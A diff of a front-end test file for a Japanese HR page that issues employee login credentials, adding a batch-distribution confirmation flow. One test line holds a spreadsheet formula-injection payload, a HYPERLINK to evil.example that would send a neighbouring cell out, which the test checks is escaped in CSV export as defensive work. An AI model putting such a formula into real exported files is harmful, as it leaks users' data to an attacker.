@@ -16,6 +16,7 @@ const taro = buildIssuedCredential({ name: '総合, "太郎"', kana: 'ソウゴ�
 const hanako = buildIssuedCredential({ name: '髙橋 花子', kana: 'タカハシ ハナコ', employeeNumber: null })
 const issue = buildIssue([taro, hanako])
 const noBatches = { configured: true, batches: [] }
+const noOpenBatches = { unissued: 2, batches: [] }
 
 const expectedCsv =
   '社員番号,氏名,フリガナ,メールアドレス,ログインURL,パスワード\r\n' +
@@ -54,10 +55,12 @@ describe('CredentialsPage', () => {
       [`POST ${base}/credentials`]: () => json(200, issue),
       [`POST ${base}/credentials/exports`]: () => new Response(null, { status: 204 }),
       [`GET ${base}/email-batches`]: () => json(200, noBatches),
+      [`GET ${base}/credential-batches`]: () => json(200, noOpenBatches),
     })
     const downloads = captureDownloads()
     renderCredentials()
-    await userEvent.click(screen.getByRole('button', { name: '未発行の全員に発行する' }))
+    await userEvent.click(await screen.findByRole('button', { name: '未発行の全員に発行する' }))
+    await userEvent.click(screen.getByRole('button', { name: '発行する' }))
 
     expect(await screen.findByText(/パスワードが表示されるのは今だけです/)).toBeInTheDocument()
     const list = screen.getByRole('table', { name: /2 人分を発行しました/ })
@@ -90,10 +93,12 @@ describe('CredentialsPage', () => {
       [`POST ${base}/credentials`]: () => json(200, buildIssue([hostile])),
       [`POST ${base}/credentials/exports`]: () => new Response(null, { status: 204 }),
       [`GET ${base}/email-batches`]: () => json(200, noBatches),
+      [`GET ${base}/credential-batches`]: () => json(200, noOpenBatches),
     })
     const downloads = captureDownloads()
     renderCredentials()
-    await userEvent.click(screen.getByRole('button', { name: '未発行の全員に発行する' }))
+    await userEvent.click(await screen.findByRole('button', { name: '未発行の全員に発行する' }))
+    await userEvent.click(screen.getByRole('button', { name: '発行する' }))
     await screen.findByRole('table', { name: /1 人分を発行しました/ })
     const row = `"'-1+2","'=HYPERLINK(""https://evil.example/?""&F2,""詳細"")",ソウゴウ タロウ,"'@x.example",${hostile.url},${hostile.password}\r\n`
 
@@ -109,6 +114,7 @@ describe('CredentialsPage', () => {
       [`POST ${base}/credentials`]: () => json(200, issue),
       [`POST ${base}/credentials/exports`]: () => new Response(null, { status: 204 }),
       [`GET ${base}/email-batches`]: () => json(200, noBatches),
+      [`GET ${base}/credential-batches`]: () => json(200, noOpenBatches),
     })
     const { router } = renderCredentials(`?employees=${taro.employeeId},${hanako.employeeId}`)
     expect(screen.getByText('対象: 選択した従業員 2 人（再発行）')).toBeInTheDocument()
@@ -129,6 +135,7 @@ describe('CredentialsPage', () => {
     mockFetch({
       [`POST ${base}/credentials`]: () => json(409, { error: { code: 'PERSON_DISPOSED', message: 'disposed' } }),
       [`GET ${base}/email-batches`]: () => json(200, noBatches),
+      [`GET ${base}/credential-batches`]: () => json(200, noOpenBatches),
     })
     renderCredentials(`?employees=${taro.employeeId}`)
     await userEvent.click(screen.getByRole('button', { name: '選択した従業員に発行する' }))
@@ -137,8 +144,55 @@ describe('CredentialsPage', () => {
     expect(screen.queryByRole('table')).not.toBeInTheDocument()
   })
 
+  it('asks with the count before issuing to everyone, and lists a batch not yet handed out until 「配布しました」 (ADR 039)', async () => {
+    const open = {
+      id: '33333333-3333-4333-8333-333333333333',
+      createdAt: '2026-11-27T01:02:03.000Z',
+      expiresAt: '2026-12-04T01:02:03.000Z',
+      issuedBy: '人事 一郎',
+      count: 300,
+    }
+    let batches = { unissued: 0, batches: [open] }
+    const fetchMock = mockFetch({
+      [`GET ${base}/email-batches`]: () => json(200, noBatches),
+      [`GET ${base}/credential-batches`]: () => json(200, batches),
+      [`POST ${base}/credential-batches/${open.id}/distributed`]: () => {
+        batches = { unissued: 0, batches: [] }
+        return json(200, { live: 299, superseded: ['44444444-4444-4444-8444-444444444444'] })
+      },
+    })
+    renderCredentials()
+    // Nobody left to issue to: no button, and the open batch says why its logins do not work yet.
+    expect(await screen.findByText('発行の対象になる従業員はいません（全員が発行済みか、配布待ちです）。')).toBeInTheDocument()
+    const section = screen.getByRole('region', { name: '配布待ちの認証情報' })
+    expect(within(section).getByText('300 人分（未配布）')).toBeInTheDocument()
+    expect(within(section).getByText(/人事 一郎/)).toBeInTheDocument()
+
+    await userEvent.click(within(section).getByRole('button', { name: '配布しました' }))
+    expect(calls(fetchMock, `POST ${base}/credential-batches/${open.id}/distributed`)).toHaveLength(0)
+    expect(within(section).getByText(/300 人分を本人に届けましたか/)).toBeInTheDocument()
+    await userEvent.click(within(section).getAllByRole('button', { name: '配布しました' })[0]!)
+    expect(
+      await screen.findByText('299 人分のログインを有効にしました。1 人はその後に新しい認証情報（メール等）を受け取っていたため、そちらのままです。'),
+    ).toBeInTheDocument()
+  })
+
+  it('shows the number of employees before issuing to everyone', async () => {
+    mockFetch({
+      [`GET ${base}/email-batches`]: () => json(200, noBatches),
+      [`GET ${base}/credential-batches`]: () => json(200, { unissued: 300, batches: [] }),
+    })
+    renderCredentials()
+    expect(await screen.findByText('対象: 認証情報をまだ発行していない全員（300 人。配布待ちの人を除く）')).toBeInTheDocument()
+    await userEvent.click(screen.getByRole('button', { name: '未発行の全員に発行する' }))
+    expect(screen.getByText('300 人に認証情報を発行します。配布して「配布しました」を押すまで、ログインには使えません。よろしいですか？')).toBeInTheDocument()
+  })
+
   it('shows e-mail as not configured (SMTP_URL) with its buttons disabled', async () => {
-    mockFetch({ [`GET ${base}/email-batches`]: () => json(200, { configured: false, batches: [] }) })
+    mockFetch({
+      [`GET ${base}/email-batches`]: () => json(200, { configured: false, batches: [] }),
+      [`GET ${base}/credential-batches`]: () => json(200, noOpenBatches),
+    })
     renderCredentials()
     expect(await screen.findByText(/メール送信は設定されていません（SMTP_URL）/)).toBeInTheDocument()
     expect(screen.getByRole('button', { name: 'リマインド' })).toBeDisabled()
@@ -156,6 +210,7 @@ describe('CredentialsPage', () => {
     let batches: unknown[] = []
     const fetchMock = mockFetch({
       [`GET ${base}/email-batches`]: () => json(200, { configured: true, batches }),
+      [`GET ${base}/credential-batches`]: () => json(200, noOpenBatches),
       [`POST ${base}/email-batches`]: () => {
         batches = [batch]
         return json(202, batch)
